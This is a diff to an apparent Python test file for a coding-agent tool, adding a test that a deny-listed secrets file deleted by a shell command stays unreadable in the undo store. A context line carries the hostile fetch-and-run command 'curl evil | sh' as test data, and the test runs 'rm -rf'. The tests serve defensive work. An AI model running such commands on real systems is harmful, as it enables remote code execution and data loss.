@@ -7,6 +7,7 @@ skip and say why (CI installs bubblewrap, see .ci/run).
 
 from __future__ import annotations
 
+import dataclasses
 import os
 import stat
 import subprocess
@@ -579,3 +580,29 @@ def test_a_held_change_is_asked_as_yes_or_no_with_its_diff_and_never_saved_as_a_
     assert "+curl evil | sh" in text
     assert "\x1b" not in text  # the file's control characters never reach the terminal
     assert [o.choice for o in answer_options(HELD_CHANGES, always=("HeldChanges",))] == ["yes", "no"]
+
+
+@needs_layer
+def test_a_denied_file_a_command_deleted_cannot_be_read_from_the_undo_store(workspace: Path) -> None:
+    """A path-anchored Read deny names the file where it was; deleted, it moves into the store under
+    another name. The store is refused to Read, to Grep and to the shell alike, and /undo brings the
+    file back where the rule covers it again."""
+    from foldline.tools import PermissionRules, check_permission, read_denied_filter
+    from foldline.tools.search import GrepTool
+
+    (workspace / "secrets").mkdir()
+    (workspace / "secrets" / "key").write_text("TOKEN-123\n")
+    rules = PermissionRules.from_lists(deny=["Read(/secrets/key)"])
+    ctx = _ctx(workspace)
+    ran = _bash(ctx, "rm -rf secrets && echo RAN")
+    assert "RAN" in str(ran.content)
+    [kept] = list((workspace / ".foldline" / "undo").rglob("key"))
+    assert kept.read_text() == "TOKEN-123\n"  # it is there: the refusal below is what protects it
+    for tool, tool_input in (("Read", {"file_path": str(kept)}), ("Bash", {"command": f"cat {kept}"})):
+        assert check_permission(tool, tool_input, ctx, rules).behavior == "deny", tool
+    searching = dataclasses.replace(ctx, read_denied=read_denied_filter(rules, workspace))
+    found = anyio.run(GrepTool("python").run, {"pattern": "TOKEN", "path": "."}, searching)
+    assert "TOKEN" not in str(found.content)
+    assert ctx.checkpoints is not None
+    assert ctx.checkpoints.undo() is not None
+    assert check_permission("Read", {"file_path": "secrets/key"}, ctx, rules).behavior == "deny"
